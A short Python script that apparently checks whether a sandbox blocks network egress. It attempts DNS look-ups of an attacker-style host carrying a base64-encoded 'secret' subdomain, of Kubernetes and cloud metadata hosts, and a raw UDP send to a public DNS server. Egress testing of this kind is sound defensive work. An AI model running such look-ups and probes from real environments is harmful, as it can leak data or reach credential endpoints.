import socket
import time

from attack import apart, attempt

began = time.monotonic()
lookups = {"lookup": "c2VjcmV0.attacker.invalid", "cluster": "kubernetes.default.svc.cluster.local", "metadata": "metadata.google.internal"}
for name, host in lookups.items():
    apart(name, lambda: socket.getaddrinfo(host, 80))
print("at once" if time.monotonic() - began < 10 else "ESCAPED: look-ups were tried", flush=True)
attempt("by hand", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\0" * 30, ("8.8.8.8", 53)))
